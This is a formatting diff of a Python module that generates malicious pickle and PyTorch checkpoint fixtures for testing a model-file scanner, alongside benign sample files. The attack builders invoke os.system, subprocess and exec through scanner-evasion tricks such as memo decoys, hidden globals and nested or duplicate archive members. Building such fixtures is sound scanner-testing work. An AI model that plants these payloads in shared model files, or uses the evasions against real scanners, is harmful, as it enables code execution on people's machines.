@@ -54,7 +54,11 @@ COMPRESSED = "gzip or zlib, by its magic (as joblib.load does), then pickle stre
 
 TORCH_MAGIC = 0x1950A86A20F9469CFC6C
 TORCH_PROTOCOL = 1001
-TORCH_SYS_INFO = {"protocol_version": TORCH_PROTOCOL, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}
+TORCH_SYS_INFO = {
+    "protocol_version": TORCH_PROTOCOL,
+    "little_endian": True,
+    "type_sizes": {"short": 2, "int": 4, "long": 4},
+}
 
 
 @dataclass(frozen=True)
@@ -76,7 +80,11 @@ def proto(version: int) -> bytes:
 def text(value: str) -> bytes:
     """SHORT_BINUNICODE, or BINUNICODE when longer than 255 bytes."""
     raw = value.encode()
-    return b"\x8c" + bytes([len(raw)]) + raw if len(raw) < 256 else b"X" + struct.pack("<I", len(raw)) + raw
+    return (
+        b"\x8c" + bytes([len(raw)]) + raw
+        if len(raw) < 256
+        else b"X" + struct.pack("<I", len(raw)) + raw
+    )
 
 
 def text8(value: str) -> bytes:
@@ -138,7 +146,9 @@ def ext(size: int, code: int) -> bytes:
 
 
 EXT_CODES = {1: 0xF0, 2: 0x1234, 4: 0x123456}
-DECOY = text("collections") + text("OrderedDict")  # the pair a scanner that trusts the last two strings sees
+DECOY = text("collections") + text(
+    "OrderedDict"
+)  # the pair a scanner that trusts the last two strings sees
 
 
 def reduce_call(call: Call) -> bytes:
@@ -168,13 +178,40 @@ def memo_overwrite(call: Call) -> bytes:
     """Memo slots first hold the harmless pair, are overwritten (LONG_BINPUT, text PUT) and read back
     with LONG_BINGET and text GET; the module is a BINUNICODE8."""
     harmless = text("collections") + binput(0) + text("OrderedDict") + binput(1) + POP + POP
-    overwrite = text8(call.module) + long_binput(0) + POP + text(call.name) + put(1) + POP + DECOY + POP + POP
-    return proto(4) + harmless + overwrite + long_binget(0) + get(1) + STACK_GLOBAL + with_argument(call)
+    overwrite = (
+        text8(call.module)
+        + long_binput(0)
+        + POP
+        + text(call.name)
+        + put(1)
+        + POP
+        + DECOY
+        + POP
+        + POP
+    )
+    return (
+        proto(4)
+        + harmless
+        + overwrite
+        + long_binget(0)
+        + get(1)
+        + STACK_GLOBAL
+        + with_argument(call)
+    )
 
 
 def pop_mark_decoy(call: Call) -> bytes:
     """The harmless pair is pushed after a MARK and discarded with POP_MARK."""
-    return proto(4) + text(call.module) + text(call.name) + MARK + DECOY + POP_MARK + STACK_GLOBAL + with_argument(call)
+    return (
+        proto(4)
+        + text(call.module)
+        + text(call.name)
+        + MARK
+        + DECOY
+        + POP_MARK
+        + STACK_GLOBAL
+        + with_argument(call)
+    )
 
 
 def protocol0_global(call: Call) -> bytes:
@@ -184,13 +221,40 @@ def protocol0_global(call: Call) -> bytes:
 
 def protocol0_stack_global(call: Call) -> bytes:
     """No PROTO; protocol-0 STRING/UNICODE literals and text PUT/GET feed a STACK_GLOBAL."""
-    hide = string0(call.module) + put(0) + POP + unicode0(call.name) + put(1) + POP + string0("collections") + unicode0("OrderedDict")
-    return hide + POP + POP + get(0) + get(1) + STACK_GLOBAL + MARK + unicode0(call.argument) + TUPLE + REDUCE + STOP
+    hide = (
+        string0(call.module)
+        + put(0)
+        + POP
+        + unicode0(call.name)
+        + put(1)
+        + POP
+        + string0("collections")
+        + unicode0("OrderedDict")
+    )
+    return (
+        hide
+        + POP
+        + POP
+        + get(0)
+        + get(1)
+        + STACK_GLOBAL
+        + MARK
+        + unicode0(call.argument)
+        + TUPLE
+        + REDUCE
+        + STOP
+    )
 
 
 def binstring_operands(call: Call) -> bytes:
     """STACK_GLOBAL on SHORT_BINSTRINGs, which Python 3 decodes to str."""
-    return proto(4) + short_binstring(call.module) + short_binstring(call.name) + STACK_GLOBAL + with_argument(call)
+    return (
+        proto(4)
+        + short_binstring(call.module)
+        + short_binstring(call.name)
+        + STACK_GLOBAL
+        + with_argument(call)
+    )
 
 
 def extension(size: int) -> Callable[[Call], bytes]:
@@ -207,13 +271,44 @@ def extension(size: int) -> Callable[[Call], bytes]:
 def getattr_chain(call: Call) -> bytes:
     """getattr(__import__(module), name)(argument): the module and name are plain string arguments."""
     imported = global_("builtins", "__import__") + text(call.module) + TUPLE1 + REDUCE
-    return proto(2) + global_("builtins", "getattr") + imported + text(call.name) + TUPLE2 + REDUCE + with_argument(call)
+    return (
+        proto(2)
+        + global_("builtins", "getattr")
+        + imported
+        + text(call.name)
+        + TUPLE2
+        + REDUCE
+        + with_argument(call)
+    )
 
 
 def getattr_chain_memo(call: Call) -> bytes:
     """The getattr chain again, its own globals' strings fetched from the memo behind decoys."""
-    hide = text("builtins") + MEMOIZE + POP + text("getattr") + MEMOIZE + POP + text("__import__") + MEMOIZE + POP + DECOY + POP + POP
-    globals_ = binget(0) + binget(1) + STACK_GLOBAL + binget(0) + binget(2) + STACK_GLOBAL + DECOY + POP + POP
+    hide = (
+        text("builtins")
+        + MEMOIZE
+        + POP
+        + text("getattr")
+        + MEMOIZE
+        + POP
+        + text("__import__")
+        + MEMOIZE
+        + POP
+        + DECOY
+        + POP
+        + POP
+    )
+    globals_ = (
+        binget(0)
+        + binget(1)
+        + STACK_GLOBAL
+        + binget(0)
+        + binget(2)
+        + STACK_GLOBAL
+        + DECOY
+        + POP
+        + POP
+    )
     chain = text(call.module) + TUPLE1 + REDUCE + text(call.name) + TUPLE2 + REDUCE
     return proto(4) + hide + globals_ + chain + with_argument(call)
 
@@ -230,7 +325,20 @@ def obj_opcode(call: Call) -> bytes:
 def obj_memo(call: Call) -> bytes:
     """OBJ on a STACK_GLOBAL whose strings come from the memo, a decoy left on the stack in between."""
     hide = text(call.module) + MEMOIZE + POP + text(call.name) + MEMOIZE + POP
-    return proto(4) + hide + MARK + binget(0) + binget(1) + STACK_GLOBAL + DECOY + POP + POP + text(call.argument) + OBJ + STOP
+    return (
+        proto(4)
+        + hide
+        + MARK
+        + binget(0)
+        + binget(1)
+        + STACK_GLOBAL
+        + DECOY
+        + POP
+        + POP
+        + text(call.argument)
+        + OBJ
+        + STOP
+    )
 
 
 def build_setstate(call: Call) -> bytes:
@@ -243,7 +351,16 @@ def build_setstate(call: Call) -> bytes:
 
 def nested_reduce(call: Call) -> bytes:
     """The call is a value inside an allowed OrderedDict."""
-    return proto(2) + global_("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE + text("k") + reduce_call(call) + SETITEM + STOP
+    return (
+        proto(2)
+        + global_("collections", "OrderedDict")
+        + EMPTY_TUPLE
+        + REDUCE
+        + text("k")
+        + reduce_call(call)
+        + SETITEM
+        + STOP
+    )
 
 
 def nonliteral_call(call: Call) -> bytes:
@@ -255,7 +372,16 @@ def nonliteral_call(call: Call) -> bytes:
 def nonliteral_persid(call: Call) -> bytes:
     """STACK_GLOBAL's module comes from persistent_load(('module', module)): PyTorch's legacy loader
     returns data[0] for a 'module' id, so no global at all names it."""
-    return proto(2) + text("module") + text(call.module) + TUPLE2 + BINPERSID + text(call.name) + STACK_GLOBAL + with_argument(call)
+    return (
+        proto(2)
+        + text("module")
+        + text(call.module)
+        + TUPLE2
+        + BINPERSID
+        + text(call.name)
+        + STACK_GLOBAL
+        + with_argument(call)
+    )
 
 
 def error_after_payload(call: Call) -> bytes:
@@ -280,7 +406,9 @@ def protocol1_truncated(call: Call) -> bytes:
 
 def protocol0_unknown_opcode(call: Call) -> bytes:
     """A protocol-0 call, then a byte that is no opcode instead of STOP: the call has run by then."""
-    return global_(call.module, call.name) + MARK + unicode0(call.argument) + TUPLE + REDUCE + b"\xff"
+    return (
+        global_(call.module, call.name) + MARK + unicode0(call.argument) + TUPLE + REDUCE + b"\xff"
+    )
 
 
 def memo_after_pop(call: Call) -> bytes:
@@ -294,7 +422,18 @@ def stacked_memo_reset(call: Call) -> bytes:
     """Two streams: the first memoizes the harmless pair; the second fetches memo slots 0 and 1,
     which hold its own strings, because each stream starts with an empty memo."""
     first = proto(4) + text("collections") + MEMOIZE + text("OrderedDict") + MEMOIZE + TUPLE2 + STOP
-    second = proto(4) + text(call.module) + MEMOIZE + POP + text(call.name) + MEMOIZE + POP + binget(0) + binget(1) + STACK_GLOBAL
+    second = (
+        proto(4)
+        + text(call.module)
+        + MEMOIZE
+        + POP
+        + text(call.name)
+        + MEMOIZE
+        + POP
+        + binget(0)
+        + binget(1)
+        + STACK_GLOBAL
+    )
     return first + second + with_argument(call)
 
 
@@ -364,7 +503,11 @@ class _ReferencePickler(pickle._Pickler):
             self.memoize(obj)
 
     def persistent_id(self, obj: Any) -> object:
-        return ("storage", FLOAT_STORAGE, obj.key, "cpu", obj.numel) if isinstance(obj, Storage) else None
+        return (
+            ("storage", FLOAT_STORAGE, obj.key, "cpu", obj.numel)
+            if isinstance(obj, Storage)
+            else None
+        )
 
 
 def dumps(obj: object, protocol: int = 2) -> bytes:
@@ -392,7 +535,12 @@ def state_dict(*extra: tuple[str, object]) -> OrderedDict[str, object]:
 
 
 def training_checkpoint() -> dict[str, object]:
-    return {"state_dict": state_dict(), "epoch": 3, "optimizer": {"lr": 0.01, "betas": (0.9, 0.999)}, "best": None}
+    return {
+        "state_dict": state_dict(),
+        "epoch": 3,
+        "optimizer": {"lr": 0.01, "betas": (0.9, 0.999)},
+        "best": None,
+    }
 
 
 def trojaned_state_dict(call: Call) -> bytes:
@@ -420,7 +568,14 @@ def zip_of(members: list[tuple[str, bytes]]) -> bytes:
 def torch_zip(data_pkl: bytes, *, prefix: str = "archive") -> bytes:
     """torch.save's zip layout: data.pkl, one member per storage, byteorder and version."""
     storages = [(f"{prefix}/data/{storage.key}", storage_bytes(storage)) for storage in STORAGES]
-    return zip_of([(f"{prefix}/data.pkl", data_pkl), *storages, (f"{prefix}/byteorder", b"little"), (f"{prefix}/version", b"3\n")])
+    return zip_of(
+        [
+            (f"{prefix}/data.pkl", data_pkl),
+            *storages,
+            (f"{prefix}/byteorder", b"little"),
+            (f"{prefix}/version", b"3\n"),
+        ]
+    )
 
 
 def legacy_torch(replace: dict[int, bytes] | None = None) -> bytes:
@@ -437,7 +592,9 @@ def legacy_torch(replace: dict[int, bytes] | None = None) -> bytes:
     ]
     for number, stream in (replace or {}).items():
         streams[number - 1] = stream
-    raw = b"".join(struct.pack("<q", storage.numel) + storage_bytes(storage) for storage in STORAGES)
+    raw = b"".join(
+        struct.pack("<q", storage.numel) + storage_bytes(storage) for storage in STORAGES
+    )
     return b"".join(streams) + raw
 
 
@@ -491,7 +648,18 @@ def joblib_style(call: Call) -> bytes:
     """joblib's NumpyPickler layout: after the NumpyArrayWrapper's BUILD come the array's raw bytes,
     inline; the stream then goes on, here to the call."""
     wrapper = global_("joblib.numpy_pickle", "NumpyArrayWrapper") + EMPTY_TUPLE + NEWOBJ
-    state = EMPTY_DICT + MARK + text("shape") + b"K\x04" + TUPLE1 + text("order") + text("C") + text("allow_mmap") + NEWFALSE + SETITEMS
+    state = (
+        EMPTY_DICT
+        + MARK
+        + text("shape")
+        + b"K\x04"
+        + TUPLE1
+        + text("order")
+        + text("C")
+        + text("allow_mmap")
+        + NEWFALSE
+        + SETITEMS
+    )
     raw = struct.pack("<4d", 1.0, 2.0, 3.0, 4.0)
     return proto(2) + wrapper + state + BUILD + raw + POP + reduce_call(call) + STOP
 
@@ -553,7 +721,9 @@ class Benign:
     content: Callable[[], bytes]
 
 
-def _wrap(container: Callable[[bytes], bytes], stream: Callable[[Call], bytes]) -> Callable[[Call], bytes]:
+def _wrap(
+    container: Callable[[bytes], bytes], stream: Callable[[Call], bytes]
+) -> Callable[[Call], bytes]:
     def build(call: Call) -> bytes:
         return container(stream(call))
 
@@ -578,17 +748,26 @@ def _duplicate_data_pkl(*, malicious_first: bool) -> Callable[[Call], bytes]:
     def build(call: Call) -> bytes:
         pair = [dumps(state_dict()), trojaned_state_dict(call)]
         first, second = reversed(pair) if malicious_first else pair
-        return zip_of([("archive/data.pkl", first), ("archive/data.pkl", second), ("archive/version", b"3\n")])
+        return zip_of(
+            [("archive/data.pkl", first), ("archive/data.pkl", second), ("archive/version", b"3\n")]
+        )
 
     return build
 
 
 def _nested_zip(call: Call) -> bytes:
-    return zip_of([("README.txt", b"weights inside\n"), ("inner.pt", torch_zip(trojaned_state_dict(call)))])
+    return zip_of(
+        [("README.txt", b"weights inside\n"), ("inner.pt", torch_zip(trojaned_state_dict(call)))]
+    )
 
 
 def _npz(call: Call) -> bytes:
-    return zip_of([("bias.npy", npy("<f4", (2,), bytes(8))), ("weights.npy", object_npy(pickle_protocol3(call)))])
+    return zip_of(
+        [
+            ("bias.npy", npy("<f4", (2,), bytes(8))),
+            ("weights.npy", object_npy(pickle_protocol3(call))),
+        ]
+    )
 
 
 def pickle_protocol3(call: Call) -> bytes:
@@ -618,7 +797,14 @@ ATTACKS = (
     # (a) strings memoized, popped, a harmless pair pushed and popped, fetched back for STACK_GLOBAL
     Attack("a-memo-decoy.pkl", memo_decoy, os_system, "os.system"),
     Attack("a-memo-overwrite.pkl", memo_overwrite, posix_system, "posix.system"),
-    Attack("a-memo-decoy-torch.pt", _wrap(torch_zip, memo_decoy), os_system, "os.system", ZIP, ("archive/data.pkl",)),
+    Attack(
+        "a-memo-decoy-torch.pt",
+        _wrap(torch_zip, memo_decoy),
+        os_system,
+        "os.system",
+        ZIP,
+        ("archive/data.pkl",),
+    ),
     # (b) the harmless pair pushed after a MARK and dropped with POP_MARK
     Attack("b-pop-mark.pkl", pop_mark_decoy, subprocess_getoutput, "subprocess.getoutput"),
     # (c) protocol 0: no PROTO opcode, named .pt
@@ -626,23 +812,64 @@ ATTACKS = (
     Attack("c-protocol0-stack-global.pt", protocol0_stack_global, builtins_exec, "builtins.exec"),
     # (d) several pickles back to back: legacy torch with the payload in stream 2..5, and a plain
     # file whose second stream relies on the memo being reset
-    *(Attack(f"d-legacy-stream{n}.pt", _legacy_with(n, plain), os_system, "os.system", LEGACY) for n in (2, 3, 5)),
-    Attack("d-legacy-stream4.pt", _legacy_with(4, trojaned_state_dict), posix_system, "posix.system", LEGACY),
+    *(
+        Attack(f"d-legacy-stream{n}.pt", _legacy_with(n, plain), os_system, "os.system", LEGACY)
+        for n in (2, 3, 5)
+    ),
+    Attack(
+        "d-legacy-stream4.pt",
+        _legacy_with(4, trojaned_state_dict),
+        posix_system,
+        "posix.system",
+        LEGACY,
+    ),
     Attack("d-stacked.pkl", stacked_memo_reset, os_system, "os.system"),
     # (e) the legacy tar layout
-    Attack("e-legacy-tar.pt", _tar_with("pickle", trojaned_state_dict), os_system, "os.system", TAR, ("pickle",)),
-    Attack("e-legacy-tar-storages.pt", _tar_with("storages", plain), builtins_eval, "builtins.eval", TAR, ("storages",)),
+    Attack(
+        "e-legacy-tar.pt",
+        _tar_with("pickle", trojaned_state_dict),
+        os_system,
+        "os.system",
+        TAR,
+        ("pickle",),
+    ),
+    Attack(
+        "e-legacy-tar-storages.pt",
+        _tar_with("storages", plain),
+        builtins_eval,
+        "builtins.eval",
+        TAR,
+        ("storages",),
+    ),
     # (f) inside a directory: an upper-case suffix, and no suffix at all (only the content says pickle)
     Attack("f-directory/MODEL.PKL", protocol0_global, os_system, "os.system"),
     Attack("f-directory/weights", plain, posix_system, "posix.system"),
     # (g) two members named archive/data.pkl, the malicious one last, then first
-    Attack("g-duplicate-malicious-last.pt", _duplicate_data_pkl(malicious_first=False), os_system, "os.system", ZIP, ("archive/data.pkl",)),
-    Attack("g-duplicate-malicious-first.pt", _duplicate_data_pkl(malicious_first=True), os_system, "os.system", ZIP, ("archive/data.pkl",)),
+    Attack(
+        "g-duplicate-malicious-last.pt",
+        _duplicate_data_pkl(malicious_first=False),
+        os_system,
+        "os.system",
+        ZIP,
+        ("archive/data.pkl",),
+    ),
+    Attack(
+        "g-duplicate-malicious-first.pt",
+        _duplicate_data_pkl(malicious_first=True),
+        os_system,
+        "os.system",
+        ZIP,
+        ("archive/data.pkl",),
+    ),
     # (h) a torch zip inside a zip
-    Attack("h-nested.zip", _nested_zip, os_system, "os.system", ZIP, ("inner.pt", "archive/data.pkl")),
+    Attack(
+        "h-nested.zip", _nested_zip, os_system, "os.system", ZIP, ("inner.pt", "archive/data.pkl")
+    ),
     # (i) damaged files: a zip cut in half, a member whose CRC does not match, a stream without STOP
     Attack("i-truncated-zip.pt", _truncated_zip, os_system, None, ZIP, readable=False),
-    Attack("i-bad-crc.pt", _bad_crc_zip, os_system, None, ZIP, ("archive/data.pkl",), readable=False),
+    Attack(
+        "i-bad-crc.pt", _bad_crc_zip, os_system, None, ZIP, ("archive/data.pkl",), readable=False
+    ),
     Attack("i-truncated-stream.pt", truncated, os_system, "os.system"),
     # globals reached through calls, nested calls, BUILD, INST and OBJ
     Attack("getattr-chain.pkl", getattr_chain, os_system, "builtins.getattr"),
@@ -658,12 +885,21 @@ ATTACKS = (
     *(Attack(f"ext{size}.pkl", extension(size), os_system, f"EXT{size}") for size in (1, 2, 4)),
     # STACK_GLOBAL operands that are not literal strings
     Attack("nonliteral-call.pkl", nonliteral_call, os_system, "builtins.str"),
-    Attack("nonliteral-persid.pt", nonliteral_persid, os_system, "STACK_GLOBAL"),  # no literal names the global
+    Attack(
+        "nonliteral-persid.pt", nonliteral_persid, os_system, "STACK_GLOBAL"
+    ),  # no literal names the global
     # the call runs, then the stream breaks
     Attack("error-after-payload.pkl", error_after_payload, os_system, "os.system"),
     Attack("empty-stack-after-payload.pkl", empty_stack_after_payload, os_system, "os.system"),
     # torch zips written with zipfile, another archive prefix, a raw pickle as a .bin member
-    Attack("torch-trojaned.pt", _wrap(torch_zip, trojaned_state_dict), os_system, "os.system", ZIP, ("archive/data.pkl",)),
+    Attack(
+        "torch-trojaned.pt",
+        _wrap(torch_zip, trojaned_state_dict),
+        os_system,
+        "os.system",
+        ZIP,
+        ("archive/data.pkl",),
+    ),
     Attack(
         "torch-other-prefix.pth",
         _wrap(lambda data: torch_zip(data, prefix="clf"), nested_reduce),
@@ -700,15 +936,33 @@ ATTACKS = (
 )
 
 # Objects the standard pickler writes without any global (bytes would need _codecs.encode below protocol 3).
-PLAIN = {"epoch": 3, "lr": 0.001, "layers": [64, 32], "name": "clf", "flags": (True, None, False), "history": [{"loss": 0.5}] * 3}
+PLAIN = {
+    "epoch": 3,
+    "lr": 0.001,
+    "layers": [64, 32],
+    "name": "clf",
+    "flags": (True, None, False),
+    "history": [{"loss": 0.5}] * 3,
+}
 BENIGN = (
     *(Benign(f"plain-protocol{p}.pkl", partial(pickle.dumps, PLAIN, protocol=p)) for p in range(6)),
-    *(Benign(f"checkpoint-protocol{p}.pkl", partial(dumps, training_checkpoint(), protocol=p)) for p in range(6)),
-    Benign("stacked.pkl", lambda: pickle.dumps(PLAIN, protocol=4) + pickle.dumps(["second", "stream"], protocol=4)),
+    *(
+        Benign(f"checkpoint-protocol{p}.pkl", partial(dumps, training_checkpoint(), protocol=p))
+        for p in range(6)
+    ),
+    Benign(
+        "stacked.pkl",
+        lambda: pickle.dumps(PLAIN, protocol=4) + pickle.dumps(["second", "stream"], protocol=4),
+    ),
     Benign("torch.pt", lambda: torch_zip(dumps(state_dict()))),
     Benign("legacy.pt", legacy_torch),
     Benign("numeric.npy", lambda: npy("<f4", (2, 2), struct.pack("<4f", 1, 2, 3, 4))),
-    Benign("numeric.npz", lambda: zip_of([("w.npy", npy("<f4", (2,), bytes(8))), ("b.npy", npy("<i8", (1,), bytes(8)))])),
+    Benign(
+        "numeric.npz",
+        lambda: zip_of(
+            [("w.npy", npy("<f4", (2,), bytes(8))), ("b.npy", npy("<i8", (1,), bytes(8)))]
+        ),
+    ),
     # text that starts with a byte a pickle may start with (GLOBAL, MARK, INT) and then does not decode
     Benign("labels.csv", lambda: b"class,count\ncat,3\ndog,5\n"),
     Benign("README", lambda: b"(draft) Notes on the model.\n"),
